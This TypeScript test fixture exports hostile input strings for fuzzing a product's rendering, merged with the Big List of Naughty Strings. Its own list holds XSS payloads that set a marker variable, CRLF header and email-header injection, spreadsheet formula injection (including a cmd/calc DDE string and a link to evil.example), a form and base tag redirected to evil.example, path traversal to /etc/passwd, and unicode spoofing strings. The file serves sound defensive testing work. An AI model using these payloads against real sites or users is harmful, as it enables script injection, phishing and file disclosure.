/**
 * The Big List of Naughty Strings (https://github.com/minimaxir), and strings aimed at this product's own rendering.
 * Those that execute call `alert` or set `__xss`.
 */
import blns from 'big-list-of-naughty-strings' with { type: 'json' }

/** Aimed at React, server-rendered markup, attributes, JSON blocks, headers, emails, files, full text and links. */
export const OURS: readonly string[] = [
  '"><svg onload=__xss=1>',
  "'><img src=x onerror=__xss=1>",
  '</title><script>__xss=1</script>',
  '</script><script>__xss=1</script>',
  '--></textarea></style></noscript><script>__xss=1</script>',
  '{"a":"</script><script>__xss=1</script>"}',
  '<!--<script>',
  ']]><script>__xss=1</script>',
  'a\u2028__xss=1\u2029b',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:__xss=1">',
  '<form action=//evil.example><button>Sign in</button>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<a href="javascript:__xss=1" autofocus onfocus=__xss=1>a</a>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=__xss=1>',
  '<template shadowrootmode=open><script>__xss=1</script></template>',
  '<details open ontoggle=__xss=1>',
  'javascript:__xss=1',
  'JaVaScRiPt:__xss=1//',
  'data:text/html,<script>__xss=1</script>',
  '&lt;script&gt;__xss=1&lt;/script&gt;',
  '&#60;img src=x onerror=__xss=1&#62;',
  '\\u003cscript\\u003e__xss=1',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: typed text, not a template
  '${__xss=1}{{constructor.constructor("__xss=1")()}}',
  '#{7*7}<%= 7*7 %>{{7*7}}',
  "$& $1 $` $' $$",
  '%s %d %n %0a %00 %u0000',
  'a\r\nSet-Cookie: naughty=1\r\nX-Naughty: 1\r\n\r\n<script>__xss=1</script>',
  'Subject\nBcc: everybody@example.org',
  '=HYPERLINK("https://evil.example","a")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '../../../../etc/passwd',
  '..\\..\\boot.ini',
  'CON.mp3',
  '" OR title:* --',
  'NEAR(a b, 2) AND "*" NOT ^',
  '* ^ " ( ) : { } +',
  '__proto__',
  'constructor',
  'toString',
  '[object Object]',
  'undefined',
  'null',
  'W'.repeat(100),
  `${'\u0300'.repeat(40)}a${'\u0323\u0342'.repeat(24)}`,
  '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}'.repeat(4),
  '\u05d0\u05d1\u05d2 abc \u0645\u0631\u062d\u0628\u0627 123',
  '\u200fmirrored\u200e',
  '\u3164',
  '\u200d\u200c\u2060',
  '\u2800\u115f\u1160',
  '\u00ad\u034f\u180e',
  '\u{e0001}\u{e0041}\u{e007f}',
  'gpj.\u202eexe',
  '\u2066isolated\u2069',
  '\ufeffmark',
  'a\u0000b',
  '\u001b[31mred\u0007',
  '\u0085next line\u009f',
  '\ud83e half',
  'tab\there',
  '\u0430dmin',
  '@everyone @here @admin',
  'https://evil.example/?a=1&b=<2>#"\'',
  'mara.example',
]

/** All of them, without duplicates. */
export const STRINGS: readonly string[] = [...new Set([...OURS, ...blns])]

/** A sample of each class, for fields and surfaces where all would take too long. */
export const SOME: readonly string[] = [...new Set([...OURS, ...blns.filter((_, at) => at % 16 === 0)])]
